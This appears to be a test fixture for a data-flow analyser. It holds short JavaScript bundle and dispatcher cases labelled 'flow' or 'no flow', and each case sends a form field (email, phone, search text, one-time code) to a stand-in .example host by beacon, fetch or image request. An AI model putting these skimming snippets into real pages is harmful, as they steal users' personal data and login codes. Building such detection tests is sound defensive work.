// Modules of bundles that nothing asks for, and those that something does.

//# module-left-in-the-table
// no flow
(function (table, entry) {
  var kept = {};
  function load(id) {
    if (kept[id]) return kept[id].exports;
    var made = (kept[id] = { exports: {} });
    table[id](made, made.exports, load);
    return made.exports;
  }
  load(entry);
})({
  'app.js': function (module, exports, require) { require('view.js').show(document.querySelector('#email').value); },
  'view.js': function (module, exports) { exports.show = function (v) { document.title = v; }; },
  'old.js': function () { navigator.sendBeacon('https://mlt.mo16.example/o', document.querySelector('#email').value); },
}, 'app.js');

//# module-asked-for-by-name
// flow: email > mab.mo16.example via beacon
(function (table, entry) {
  var kept = {};
  function load(id) {
    if (kept[id]) return kept[id].exports;
    var made = (kept[id] = { exports: {} });
    table[id](made, made.exports, load);
    return made.exports;
  }
  load(entry);
})({
  'app.js': function (module, exports, require) { require('old.js'); },
  'old.js': function () { navigator.sendBeacon('https://mab.mo16.example/o', document.querySelector('#email').value); },
}, 'app.js');

//# all-modules-are-run
// flow: phone > amr.mo16.example via fetch
(function (table) {
  for (var i = 0; i < table.length; i++) table[i]();
})([
  function () { console.log('one'); },
  function () { fetch('https://amr.mo16.example/t', { method: 'POST', body: document.querySelector('input[type=tel]').value }); },
]);

//# numbers-in-a-list
// no flow
(function (table) {
  function load(id) { var made = { exports: {} }; table[id].call(made.exports, made, load); return made.exports; }
  load(2);
})([
  function () { new Image().src = 'https://nil.mo16.example/?q=' + document.querySelector('input[type=search]').value; },
  function (module) { module.exports = 'unused'; },
  function () { document.title = 'start'; },
]);

//# handlers-in-a-table-are-no-modules
// flow: search > hit.mo16.example via image
var actions = {
  find: function (v) { new Image().src = 'https://hit.mo16.example/?q=' + v; },
  hide: function () { document.body.hidden = true; },
};
document.querySelector('input[type=search]').onchange = function () { actions[this.dataset.action](this.value); };

//# steps-run-by-number
// flow: email > srn.mo16.example via beacon
// why: the second step is run by the next number
const stages = [
  (value, next) => next(value.trim()),
  (value) => navigator.sendBeacon('https://srn.mo16.example/s', value),
];
const go = (value, i) => stages[i](value, (v) => go(v, i + 1));
go(document.querySelector('input[type=email]').value, 0);

//# handlers-in-a-table-of-a-dispatcher
// flow: otp > hid.mo16.example via fetch
const handlers = {
  code: (v) => fetch('https://hid.mo16.example/o', { method: 'POST', body: v }),
  other: () => {},
};
function dispatch(kind) { handlers[kind](document.querySelector('input[autocomplete=one-time-code]').value); }
window.addEventListener('message', (e) => dispatch(e.data.kind));
